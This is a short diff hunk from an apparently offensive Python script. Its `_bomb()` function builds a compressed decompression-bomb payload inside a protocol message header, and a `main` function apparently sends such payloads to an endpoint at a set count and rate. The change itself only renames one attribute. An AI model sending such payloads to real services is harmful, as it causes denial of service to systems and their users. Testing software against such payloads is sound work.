@@ -81,7 +81,7 @@ def _bomb() -> bytes:
     row = b"\xdc\x0f\xff" + b"\x80" * 4095
     packer = zlib.compressobj(zlib.Z_BEST_COMPRESSION, zdict=DICTIONARY)
     body = packer.compress(b"\xdc\x0f\xff" + row * 4095) + packer.flush()
-    return MAGIC + bytes([VERSION]) + MapMessage.kind + DEFLATED + body
+    return MAGIC + bytes([VERSION]) + MapMessage.letter + DEFLATED + body
 
 
 def main(endpoint: str, team: str, count: int, rate: float) -> None:
